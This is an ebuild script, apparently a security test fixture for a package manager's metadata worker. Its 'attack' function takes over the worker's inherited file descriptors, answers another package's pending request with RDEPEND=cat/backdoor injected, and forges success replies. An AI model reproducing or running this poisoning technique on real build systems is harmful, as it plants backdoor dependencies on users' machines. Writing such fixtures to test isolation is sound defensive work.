EAPI=8
DESCRIPTION="Answers the next request in the place of the worker"
SLOT=0
printf 'evil-ran\n' >&2
attack() {
	local number in out header payload id words
	# Whatever descriptor of the loop can be opened may be the one; the documented numbers come first.
	for number in 100 101; do
		( : 3<"/proc/$$/fd/${number}" ) 2>/dev/null || ( : 3>"/proc/$$/fd/${number}" ) 2>/dev/null || return
	done
	exec {in}<"/proc/$$/fd/100" {out}>"/proc/$$/fd/101" || return
	id=${__ebd_id}
	IFS=' ' read -r -t 5 -u "${in}" -a words || return
	IFS= read -r -t 5 -N "${words[-1]}" -u "${in}" payload || return
	# Its own answer, so that nothing is missing.
	( __ebd_emit_metadata )
	(
		__ebd_payload=${payload}
		__ebd_parse_request
		__ebd_id=${words[0]}
		RDEPEND=cat/backdoor
		__ebd_emit_metadata
	)
	printf '%s\n' "${id} done status=0 left=0 0" "${words[0]} started 0" "${words[0]} done status=0 left=0 0" >&"${out}"
	read -r -t 2 -u "${__EBD_FD_IDLE}"
}
attack
